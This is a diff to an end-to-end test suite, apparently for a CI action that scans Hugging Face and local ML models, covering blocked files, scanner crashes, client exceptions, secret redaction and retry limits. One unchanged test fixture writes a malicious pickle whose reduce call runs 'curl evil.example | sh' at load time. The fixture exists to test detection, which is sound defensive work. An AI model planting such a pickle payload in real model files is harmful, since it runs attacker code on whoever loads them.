@@ -57,6 +57,9 @@ beforeAll(async () => {
   // protocol-0 pickle text of a __reduce__ that calls os.system, as torch.load would run it
   await write('models/evil/pytorch_model.bin', "cposix\nsystem\n(S'curl evil.example | sh'\ntR.")
   await write('models/evil/config.json', '{}')
+  // clean models the stand-in fails on by name (see the failure modes below)
+  for (const name of ['crashing', 'raising'])
+    await write(`models/${name}/model.safetensors`, Buffer.alloc(64, 3))
   // the "buckets" the stand-in client downloads object-storage models from
   const bucket = async (rel: string, content: string | Buffer) => {
     await fs.mkdir(path.dirname(path.join(root, 'buckets', rel)), { recursive: true })
@@ -120,7 +123,7 @@ async function gate(
   inputs: Record<string, string>,
   env: Record<string, string> = {},
   timeoutMs = 120_000,
-  mode = ''
+  mode: string | Record<string, string> = ''
 ): Promise<ActionRun & { indexTokens: string[] }> {
   await setHooks(hooksFile, { record: recordFile(), buckets: path.join(root, 'buckets'), mode })
   const issuedBefore = sim.indexTokens().length
@@ -184,16 +187,23 @@ describe('a local model directory, end to end', () => {
     expect(await leftBehind()).toEqual([])
   }, 180_000)
 
-  it('BLOCKED: a pickle that runs a command at load time fails the step, anchored to the file', async () => {
+  it('Hugging Face and local models in one run: each scanned its own way, one verdict; the blocked file anchored', async () => {
     const before = indexUrlsIssued()
-    const r = await gate({ 'model-uri': 'models/evil' })
+    const r = await gate({ 'model-uri': `${CLEAN_HF}\nmodels/clean\nmodels/evil` })
     expect(r.code).toBe(1)
-    // nothing of the first step is reused: this step installs the client again
+    // nothing of an earlier step is reused: this step installs the client again
     expect(indexUrlsIssued()).toBe(before + 1)
     expect(r.stdout).toContain('scanner: installing')
+    expect(
+      r.report!.models.map((m) => [m.model.source_type, m.scan?.scan_origin, m.scan?.eval_outcome])
+    ).toEqual([
+      ['HUGGING_FACE', expect.anything(), 'ALLOWED'],
+      ['LOCAL', 'MODEL_SECURITY_SDK', 'ALLOWED'],
+      ['LOCAL', 'MODEL_SECURITY_SDK', 'BLOCKED']
+    ])
     expect(r.outputs).toMatchObject({ verdict: 'fail', 'eval-outcome': 'BLOCKED' })
-    const m = r.report!.models[0]!
-    expect(m.violations.items).toEqual(
+    // a pickle that runs a command at load time
+    expect(r.report!.models[2]!.violations.items).toEqual(
       expect.arrayContaining([expect.objectContaining({ file: 'pytorch_model.bin', threat: 'PAIT-PKL-100' })])
     )
     // annotations point at the model file in the repository, and SARIF does too
@@ -206,25 +216,32 @@ describe('a local model directory, end to end', () => {
     expect(pub.requests).toEqual([])
   }, 120_000)
 
-  it('Hugging Face and local models in one run: each scanned its own way, one verdict', async () => {
-    const r = await gate({ 'model-uri': `${CLEAN_HF}\nmodels/clean\nmodels/evil` })
-    expect(r.code).toBe(1)
-    expect(
-      r.report!.models.map((m) => [m.model.source_type, m.scan?.scan_origin, m.scan?.eval_outcome])
-    ).toEqual([
-      ['HUGGING_FACE', expect.anything(), 'ALLOWED'],
-      ['LOCAL', 'MODEL_SECURITY_SDK', 'ALLOWED'],
-      ['LOCAL', 'MODEL_SECURITY_SDK', 'BLOCKED']
-    ])
-  }, 120_000)
-
-  it('a client that crashes after creating the scan: the scan it made is found and judged', async () => {
-    const r = await gate({ 'model-uri': 'models/evil' }, {}, 120_000, 'crash-after-post')
-    expect(r.code).toBe(1)
-    expect(r.outputs).toMatchObject({ verdict: 'fail', 'eval-outcome': 'BLOCKED', error: '' })
+  it('a scanner that crashes, a client that raises, one that dies after creating its scan: each judged on its own', async () => {
+    const r = await gate({ 'model-uri': 'models/crashing\nmodels/raising\nmodels/evil' }, {}, 120_000, {
+      crashing: 'crash',
+      raising: 'raise',
+      evil: 'crash-after-post'
+    })
+    expect({ exit: r.code, verdict: r.outputs.verdict }).toEqual({ exit: 1, verdict: 'fail' })
+    const [crashing, raising, evil] = r.report!.models
+    // a crash: the tail of its output, redacted; an exception: its type and message; no scan left unjudged
+    expect(crashing).toMatchObject({ status: 'error', error: { code: 'SCANNER_FAILED' } })
+    expect(crashing!.error!.message).toContain(
+      'The scanner crashed: it exited with code 134 without reporting a result.'
+    )
+    expect(crashing!.error!.message).toContain('secret=***')
+    expect(raising).toMatchObject({ status: 'error', error: { code: 'SCANNER_FAILED' } })
+    expect(raising!.error!.message).toContain(
+      'The model security client failed to scan the model (PermissionError:'
+    )
+    expect([crashing!.scan, raising!.scan]).toEqual([undefined, undefined])
+    // the scan a client made before it died is found and judged
+    expect(evil).toMatchObject({ status: 'blocked', scan: { eval_outcome: 'BLOCKED' } })
+    expect(evil!.error).toBeUndefined()
     expect(r.stdout).toMatch(
       /::warning::The scanner on the runner failed after creating scan [0-9a-f-]{36}; judging that scan/
     )
+    expect(errorLines(r).length).toBeGreaterThan(0)
   }, 120_000)
 })
 
@@ -352,6 +369,11 @@ describe('each failure says what went wrong, and fails the step', () => {
       "Last lines of pip's output:",
       'No matching distribution found for model-security-client==9.9.9'
     )
+    // the index URL in pip's words is redacted, and the failed environment is gone with the step
+    expect(r.report!.error?.message ?? r.report!.models[0]?.error?.message).toMatch(
+      /Looking in indexes: http:\/\/\*\*\*@127\.0\.0\.1:/
+    )
+    expect(await leftBehind()).toEqual([])
     expect(pub.requests).toEqual([])
   }, 120_000)
 
@@ -369,6 +391,7 @@ describe('each failure says what went wrong, and fails the step', () => {
 
   it('an index that refuses the fresh URL too: fails after one refresh', async () => {
     const temp = path.join(root, 'runner-temp-refused')
+    const before = indexUrlsIssued()
     sim.faults.add({ area: 'pypi', action: { type: 'status', status: 403 }, times: null })
     try {
       const r = await gate({ 'model-uri': 'models/clean' }, { RUNNER_TEMP: temp })
@@ -377,25 +400,12 @@ describe('each failure says what went wrong, and fails the step', () => {
         'SCANNER_SETUP',
         'The private package index refused a freshly fetched URL as well (HTTP 401/403)'
       )
+      // the first URL and one refresh, no more
+      expect(indexUrlsIssued()).toBe(before + 2)
     } finally {
       sim.faults.clear()
     }
   }, 180_000)
-
-  it('a scanner crash: the tail of its output, redacted', async () => {
-    const r = await gate({ 'model-uri': 'models/clean' }, {}, 120_000, 'crash')
-    expectFailed(
-      r,
-      'SCANNER_FAILED',
-      'The scanner crashed: it exited with code 134 without reporting a result.',
-      'secret=***'
-    )
-  }, 120_000)
-
-  it('an exception in the client: its type and message', async () => {
-    const r = await gate({ 'model-uri': 'models/clean' }, {}, 120_000, 'raise')
-    expectFailed(r, 'SCANNER_FAILED', 'The model security client failed to scan the model (PermissionError:')
-  }, 120_000)
 
   it('a scanner that outlives the timeout is stopped', async () => {
     const r = await gate({ 'model-uri': 'models/clean', timeout: '3s' }, {}, 60_000, 'hang')
